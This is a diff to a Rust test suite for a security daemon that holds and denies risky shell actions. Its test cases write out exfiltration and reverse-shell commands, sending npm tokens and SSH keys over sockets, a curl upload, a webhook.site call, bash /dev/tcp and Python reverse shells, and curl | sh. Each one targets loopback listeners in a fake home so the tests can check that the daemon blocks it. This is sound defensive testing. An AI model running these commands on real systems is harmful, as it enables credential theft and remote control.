@@ -3,12 +3,12 @@
 //! host as if the attack had not happened, approve lets it complete as without the watcher,
 //! and normal work passes through the gate unheld. Root, the real kernel, real processes, a
 //! fake home under /home, loopback listeners only.
-use std::{io::Read, net::TcpListener, path::Path, sync::mpsc};
+use std::{io::Read, net::TcpListener, path::Path, sync::mpsc, time::Instant};
 
 mod common;
 use common::{
     holds::{await_hold, launch_bg, verdict, wait_exit},
-    pack_dir, python, Daemon, FakeHome, TempDir,
+    pack_dir, python, Daemon, FakeHome, TempDir, DEADLINE,
 };
 
 /// The daemon with the shipped pack, started after the fake home exists (the gate's home
@@ -21,32 +21,78 @@ fn pack_daemon(work: &TempDir) -> Daemon {
     ))
 }
 
+/// What the recording listener saw, in order: a connection accepted, a connection's bytes
+/// once it closed (both by the peer's address).
+enum Seen {
+    Accepted(std::net::SocketAddr),
+    Closed(std::net::SocketAddr, Vec<u8>),
+}
+
 /// A loopback listener that records every byte any connection sends.
-fn recording_listener() -> (u16, mpsc::Receiver<Vec<u8>>) {
+struct Listener {
+    port: u16,
+    rx: mpsc::Receiver<Seen>,
+}
+
+fn recording_listener() -> Listener {
     let l = TcpListener::bind("127.0.0.1:0").unwrap();
     let port = l.local_addr().unwrap().port();
     let (tx, rx) = mpsc::channel();
     std::thread::spawn(move || {
         for s in l.incoming() {
             let Ok(mut s) = s else { continue };
+            let Ok(peer) = s.peer_addr() else { continue };
+            let _ = tx.send(Seen::Accepted(peer));
             let tx = tx.clone();
             std::thread::spawn(move || {
                 let mut buf = Vec::new();
                 let _ = s.read_to_end(&mut buf);
-                let _ = tx.send(buf);
+                let _ = tx.send(Seen::Closed(peer, buf));
             });
         }
     });
-    (port, rx)
+    Listener { port, rx }
 }
 
-/// Every byte the listener received from connections that have closed.
-fn received(rx: &mpsc::Receiver<Vec<u8>>) -> Vec<u8> {
-    let mut all = Vec::new();
-    while let Ok(b) = rx.try_recv() {
-        all.extend(b);
+impl Listener {
+    /// Every byte received from the connections made so far. Call it once their senders are
+    /// gone: a connection of our own, accepted after all of theirs (accept is in order), says
+    /// when every earlier one has been accepted; then each of those is awaited to its close.
+    fn received(&self) -> Vec<u8> {
+        let sentinel = std::net::TcpStream::connect(("127.0.0.1", self.port)).unwrap();
+        let me = sentinel.local_addr().unwrap();
+        let start = Instant::now();
+        let next = || {
+            let left = DEADLINE.saturating_sub(start.elapsed());
+            self.rx
+                .recv_timeout(left)
+                .expect("the listener did not answer in time")
+        };
+        let mut open = std::collections::HashSet::new();
+        let mut all = Vec::new();
+        loop {
+            match next() {
+                Seen::Accepted(p) if p == me => break,
+                Seen::Accepted(p) => {
+                    open.insert(p);
+                }
+                Seen::Closed(p, b) if p != me => {
+                    open.remove(&p);
+                    all.extend(b);
+                }
+                Seen::Closed(..) => {}
+            }
+        }
+        drop(sentinel);
+        while !open.is_empty() {
+            if let Seen::Closed(p, b) = next() {
+                if open.remove(&p) {
+                    all.extend(b);
+                }
+            }
+        }
+        all
     }
-    all
 }
 
 fn gated(d: &Daemon) -> u64 {
@@ -106,13 +152,10 @@ fn unchanged(p: &Path, before: &[u8]) -> Result<(), String> {
 }
 
 /// The listener got none of `secret`'s bytes (nor anything at all, when `secret` is empty).
-fn not_received(
-    rx: mpsc::Receiver<Vec<u8>>,
-    secret: Vec<u8>,
-) -> Box<dyn Fn() -> Result<(), String>> {
-    let rx = std::sync::Mutex::new(rx);
+fn not_received(l: Listener, secret: Vec<u8>) -> Box<dyn Fn() -> Result<(), String>> {
+    let l = std::sync::Mutex::new(l);
     Box::new(move || {
-        let got = received(&rx.lock().unwrap());
+        let got = l.lock().unwrap().received();
         let leaked = if secret.is_empty() {
             !got.is_empty()
         } else {
@@ -205,13 +248,8 @@ fn deny_leaves_the_host_as_if_the_attack_had_not_happened() {
         marker_tool(&w, "docker"),
         marker_tool(&w, "dig"),
     );
-    let (p1, rx1) = listener();
-    let (p2, rx2) = listener();
-    let (p3, rx3) = listener();
-    let (p4, rx4) = listener();
-    let (p5, rx5) = listener();
-    let (p6, rx6) = listener();
-    let (p7, rx7) = listener();
+    let [l1, l2, l3, l4, l5, l6, l7] = std::array::from_fn(|_| listener());
+    let [p1, p2, p3, p4, p5, p6, p7] = [&l1, &l2, &l3, &l4, &l5, &l6, &l7].map(|l| l.port);
     let send_file = |port: u16, file: &str| {
         format!("{py} -c \"import socket; s=socket.create_connection(('127.0.0.1', {port})); s.sendall(open('{file}','rb').read()); s.close()\"")
     };
@@ -239,13 +277,13 @@ fn deny_leaves_the_host_as_if_the_attack_had_not_happened() {
             name: "connect, then read an npm token and send it",
             script: send_file(p1, &format!("{hp}/.npmrc")),
             expect: Expect::Hold(&["token-file-read"]),
-            unharmed: not_received(rx1, token.clone()),
+            unharmed: not_received(l1, token.clone()),
         },
         Case {
             name: "connect, then read a key (a protected file) and send it",
             script: send_file(p2, &format!("{hp}/.ssh/id_rsa")),
             expect: Expect::Hold(&["protected-path", "ssh-private-key-read"]),
-            unharmed: not_received(rx2, key.clone()),
+            unharmed: not_received(l2, key.clone()),
         },
         Case {
             name: "a systemd user unit",
@@ -352,13 +390,13 @@ fn deny_leaves_the_host_as_if_the_attack_had_not_happened() {
             name: "a file uploaded",
             script: format!("curl -s -o /dev/null --data-binary @{hp}/.npmrc http://127.0.0.1:{p3}/"),
             expect: Expect::Hold(&["file-upload-command"]),
-            unharmed: not_received(rx3, Vec::new()),
+            unharmed: not_received(l3, Vec::new()),
         },
         Case {
             name: "a webhook",
             script: format!("curl -s -o /dev/null --resolve webhook.site:{p4}:127.0.0.1 http://webhook.site:{p4}/x"),
             expect: Expect::Hold(&["webhook-exfil"]),
-            unharmed: not_received(rx4, Vec::new()),
+            unharmed: not_received(l4, Vec::new()),
         },
         Case {
             name: "git push --force",
@@ -375,23 +413,23 @@ fn deny_leaves_the_host_as_if_the_attack_had_not_happened() {
             expect: Expect::Kill("reverse-shell-netcat"),
             unharmed: Box::new({
                 let p = path("marker-nc");
-                move || absent(&p)
+                let l = not_received(l5, Vec::new());
+                move || absent(&p).and_then(|()| l())
             }),
         },
         Case {
             name: "bash -i >& /dev/tcp",
             script: format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{p6} 0>&1' 2>/dev/null; true"),
             expect: Expect::Kill("reverse-shell-dev-tcp"),
-            unharmed: not_received(rx6, Vec::new()),
+            unharmed: not_received(l6, Vec::new()),
         },
         Case {
             name: "a python reverse shell",
             script: format!("{py} -c \"import socket,subprocess; s=socket.socket(); s.connect(('127.0.0.1', {p7})); s.sendall(b'shell'); subprocess.call(['/bin/sh', '-c', 'true'])\""),
             expect: Expect::Kill("reverse-shell-interpreter"),
-            unharmed: not_received(rx7, Vec::new()),
+            unharmed: not_received(l7, Vec::new()),
         },
     ];
-    drop(rx5);
     let failures = run_cases(&d, &cases);
     assert!(
         failures.is_empty(),
@@ -400,4 +438,158 @@ fn deny_leaves_the_host_as_if_the_attack_had_not_happened() {
         cases.len(),
         failures.join("\n")
     );
+}
+
+/// The holds of a session, as `watcher holds --all --json` lists them.
+fn holds_of(d: &Daemon, trace: &str) -> Vec<serde_json::Value> {
+    let out = d.cli().args(["holds", "--all", "--json"]).output().unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    common::holds::json_lines(&out.stdout)
+        .into_iter()
+        .filter(|h| h["trace_id"] == trace)
+        .collect()
+}
+
+#[test]
+fn approve_lets_the_action_complete_as_without_the_watcher_after_one_question() {
+    common::require_root();
+    let home = FakeHome::new();
+    let h = home.0.clone();
+    let work = TempDir::new("gate-approve");
+    let w = work.0.clone();
+    let d = pack_daemon(&work);
+    let token = std::fs::read(h.join(".npmrc")).unwrap();
+    let payload = format!("#!/bin/sh\ntouch {}/marker-payload\n", w.display());
+    std::fs::write(w.join("payload.sh"), &payload).unwrap();
+    let (hp, wp) = (h.display().to_string(), w.display().to_string());
+    let l = recording_listener();
+    let port = l.port;
+    let py = python();
+    let unit = h.join(".config/systemd/user/ok.service");
+    let cases: Vec<(&str, String, Box<dyn Fn() -> Result<(), String>>)> = vec![
+        (
+            "copy an npm token",
+            format!("cp {hp}/.npmrc {wp}/copy"),
+            Box::new({
+                let (p, t) = (w.join("copy"), token.clone());
+                move || unchanged(&p, &t)
+            }),
+        ),
+        (
+            "send an npm token",
+            format!("{py} -c \"import socket; s=socket.create_connection(('127.0.0.1', {port})); s.sendall(open('{hp}/.npmrc','rb').read()); s.close()\""),
+            Box::new({
+                let l = std::sync::Mutex::new(l);
+                let t = token.clone();
+                move || {
+                    let got = l.lock().unwrap().received();
+                    if got == t {
+                        Ok(())
+                    } else {
+                        Err(format!("the listener got {:?}", String::from_utf8_lossy(&got)))
+                    }
+                }
+            }),
+        ),
+        (
+            "a systemd user unit",
+            format!(
+                "mkdir -p {hp}/.config/systemd/user && printf '[Service]\\nExecStart=/bin/true\\n' > {}",
+                unit.display()
+            ),
+            Box::new({
+                let p = unit.clone();
+                move || unchanged(&p, b"[Service]\nExecStart=/bin/true\n")
+            }),
+        ),
+        (
+            "curl | sh",
+            format!("curl -s file://{wp}/payload.sh | sh"),
+            Box::new({
+                let p = w.join("marker-payload");
+                move || {
+                    if p.exists() {
+                        Ok(())
+                    } else {
+                        Err("the piped script did not run".into())
+                    }
+                }
+            }),
+        ),
+    ];
+    let mut failures = Vec::new();
+    for (name, script, done) in &cases {
+        let (mut child, trace) = launch_bg(&d, script);
+        let hold = await_hold(&d, &trace);
+        verdict(&d, "approve", &hold);
+        let st = wait_exit(&mut child);
+        if !st.success() {
+            failures.push(format!("{name}: the session failed after approve: {st}"));
+        }
+        if let Err(e) = done() {
+            failures.push(format!("{name}: after approve, {e}"));
+        }
+        let holds = holds_of(&d, &trace);
+        if holds.len() != 1 {
+            failures.push(format!(
+                "{name}: {} questions for one action: {holds:#?}",
+                holds.len()
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn after_a_secret_is_read_the_next_connect_waits_before_a_byte_leaves() {
+    common::require_root();
+    let home = FakeHome::new();
+    let work = TempDir::new("gate-seq");
+    let d = pack_daemon(&work);
+    let l = recording_listener();
+    let port = l.port;
+    let py = python();
+    // The read is its own question (approved here); the connect after it is the sequence's.
+    let script = format!(
+        "cat {}/.npmrc > /dev/null && {py} -c \"import socket; s=socket.create_connection(('127.0.0.1', {port})); s.sendall(b'exfil'); s.close()\"",
+        home.0.display()
+    );
+    let (mut child, trace) = launch_bg(&d, &script);
+    let read = await_hold(&d, &trace);
+    assert_eq!(read["rule"], "token-file-read", "{read}");
+    verdict(&d, "approve", &read);
+    let connect = common::holds::first_finding(&d, &trace, |f| {
+        f["rule"] == "secret-then-connect" && f["hold"].is_string()
+    })
+    .expect("no hold for the connect after the secret");
+    let hold = await_hold_id(&d, connect["hold"].as_str().unwrap());
+    assert_eq!(hold["trigger"]["type"], "connect", "{hold}");
+    verdict(&d, "deny", &hold);
+    wait_exit(&mut child);
+    let got = l.received();
+    assert!(
+        got.is_empty(),
+        "bytes left after deny: {:?}",
+        String::from_utf8_lossy(&got)
+    );
+}
+
+/// A hold by id, once stored.
+fn await_hold_id(d: &Daemon, id: &str) -> serde_json::Value {
+    let start = std::time::Instant::now();
+    loop {
+        let out = d.cli().args(["show-hold", id, "--json"]).output().unwrap();
+        if out.status.success() {
+            return serde_json::from_slice(&out.stdout).unwrap();
+        }
+        assert!(
+            start.elapsed() < common::DEADLINE,
+            "hold {id} was never stored"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
 }
